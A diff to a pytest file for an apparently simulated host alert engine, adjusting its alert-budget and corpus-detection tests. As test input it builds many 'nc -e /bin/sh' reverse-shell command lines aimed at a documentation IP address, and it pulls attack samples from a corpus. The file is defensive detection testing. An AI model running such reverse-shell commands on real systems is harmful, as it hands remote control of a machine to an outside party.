@@ -7,7 +7,7 @@ import json
 
 import pytest
 
-from alert_helpers import START, evaluate, merged, of_rule, quiet, replay
+from alert_helpers import START, evaluate, live, merged, of_rule, quiet, replay
 from attack_corpus import ATTACKS, BENIGN, argv_forms, corpus_events, entries
 from host_sim.cloud.alerts.engine import AlertEngine
 from host_sim.cloud.alerts.messages import format_time, read_message
@@ -36,7 +36,8 @@ def _item(commandline, t, pid=4000, ppid=1, uid=0, user="root", **extra):
 def _fired(items, rules=RULES, device="d"):
     engine = AlertEngine(rules)
     for i, item in enumerate(items):
-        engine.feed(device, {}, _process_message([item], START + i), 0.0)
+        message = _process_message([item], START + i)
+        engine.feed(device, {}, message, live(message))
     return [a.as_dict() for a in engine.sorted_alerts()]
 
 
@@ -233,9 +234,12 @@ def _bodies_of(engine, encoding, trace):
 def test_the_corpus_through_each_engine_is_caught_line_by_line(engine, encoding, tmp_path):
     trace = tmp_path / "corpus.jsonl"
     expected = _corpus_trace(trace)
-    engine_alerts = AlertEngine(RULES)
+    # hundreds of attacks from one device in minutes: past its hourly budget of alert lines,
+    # which would fold them into a count, so this test of the detections lifts it
+    engine_alerts = AlertEngine(RULES, budget=(10 ** 6, 10 ** 6))
     for body in _bodies_of(engine, encoding, trace):
-        engine_alerts.feed("victim", {}, read_message(body, {}), 0.0)
+        message = read_message(body, {})
+        engine_alerts.feed("victim", {}, message, live(message))
     caught = {(a.rule, e.get("commandline")) for a in engine_alerts.alerts.values()
               for e in a.evidence}
     missed = [(rule, form) for rule, form in expected if (rule, form) not in caught]
@@ -243,14 +247,16 @@ def test_the_corpus_through_each_engine_is_caught_line_by_line(engine, encoding,
 
 
 def test_a_device_s_new_alerts_per_hour_are_bounded():
-    """A device that trips 200 distinct alerts in an hour (hostile, or broken) gets 50 of its
-    own and one summary for the rest of that hour, so it cannot drown the view."""
+    """A device that trips 200 distinct alerts of a rule in an hour (hostile, or broken) gets
+    its rule's share of its own and one summary per severity for the rest of that hour, so it
+    cannot drown the view."""
     items = [_item("nc -e /bin/sh 203.0.113.7 %d" % (1000 + i), START + i * 10, pid=100 + i)
              for i in range(200)]
-    alerts = of_rule(_fired(items), "reverse-shell")
-    summary = [a for a in alerts if a["key"].startswith("over the hourly budget")]
-    assert len(alerts) == 51 and len(summary) == 1
-    assert summary[0]["count"] == 150
+    fired = _fired(items)
+    alerts = of_rule(fired, "reverse-shell")
+    summary = of_rule(fired, "alert-budget")
+    assert len(alerts) == 25 and len(summary) == 1
+    assert summary[0]["count"] == 175 and summary[0]["severity"] == "High"
     later = _fired(items[:1] + [_item("nc -e /bin/sh 203.0.113.7 9", START + 3600 * 2, pid=9)])
     assert len(of_rule(later, "reverse-shell")) == 2     # a new hour, a new budget
 
